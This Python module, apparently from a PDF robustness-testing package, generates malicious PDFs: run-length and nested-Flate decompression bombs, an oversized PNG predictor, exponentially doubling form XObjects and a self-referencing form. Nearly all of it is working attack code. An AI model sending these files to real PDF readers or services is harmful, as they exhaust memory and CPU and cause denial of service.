"""Attacks by what a stream unfolds to: filters and form XObjects."""

from __future__ import annotations

import zlib

from .raw import Objects, one_page

_CHUNK = 1 << 24  # bytes of spaces compressed once and then repeated


def run_length_bomb() -> bytes:
    """64 MB of spaces as 500,000 runs of 128, 1 MB in the file."""
    objects = Objects()
    return one_page(objects, [objects.stream(b"\x81 " * 500_000 + b"\x80", b"/Filter /RunLengthDecode ")])


def flate_once(gigabytes: int = 1) -> bytes:
    """GiB of spaces, compressed once: about 1 MB for each."""
    objects = Objects()
    return one_page(objects, [objects.stream(spaces(gigabytes << 30), b"/Filter /FlateDecode ")])


def flate_twice(gigabytes: int = 10) -> bytes:
    """GiB of spaces, compressed twice: about 2 KB for each."""
    objects = Objects()
    data = zlib.compress(spaces(gigabytes << 30), 9)
    return one_page(objects, [objects.stream(data, b"/Filter [/FlateDecode /FlateDecode] ")])


def spaces(count: int) -> bytes:
    """So many spaces as one zlib stream, at the cost of compressing only one chunk of them."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = squeeze.compress(b" " * _CHUNK) + squeeze.flush(zlib.Z_FULL_FLUSH)  # closed: it may be repeated
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = last.compress(b" " * (count % _CHUNK)) + last.flush()
    return b"\x78\xda" + chunk * (count // _CHUNK) + rest + _adler32_of_spaces(count)


def _adler32_of_spaces(count: int) -> bytes:
    # Adler-32 sums the bytes, and the sums: for equal bytes both are closed formulas.
    low = (1 + 32 * count) % 65521
    high = (count + 32 * count * (count + 1) // 2) % 65521
    return (high << 16 | low).to_bytes(4, "big")


def predictor() -> bytes:
    """A PNG predictor over rows of two thousand million columns."""
    objects = Objects()
    parameters = b"/DecodeParms << /Predictor 12 /Columns 2000000000 /Colors 1 /BitsPerComponent 8 >> "
    return one_page(objects, [objects.flate(b"\x02" + b" " * 64, parameters)])


def doubling_forms() -> bytes:
    """24 forms, each drawing the next twice: 2^24 drawings of the last."""
    objects = Objects()
    inner = objects.stream(b"0 0 1 1 re f", _FORM + b"/Resources << >> ")
    for _ in range(23):
        inner = objects.stream(b"/X Do /X Do", _FORM + b"/Resources << /XObject << /X %d 0 R >> >> " % inner)
    used = b"/XObject << /X %d 0 R >>" % inner
    return one_page(objects, [objects.stream(b"/X Do /X Do")], resources=used)


def recursive_form() -> bytes:
    """A form that draws itself."""
    objects = Objects()
    form = objects.stream(b"0 0 1 1 re f /X Do", _FORM + b"/Resources << /XObject << /X 1 0 R >> >> ")
    return one_page(objects, [objects.stream(b"/X Do")], resources=b"/XObject << /X %d 0 R >>" % form)


_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 841.9 595.3] "
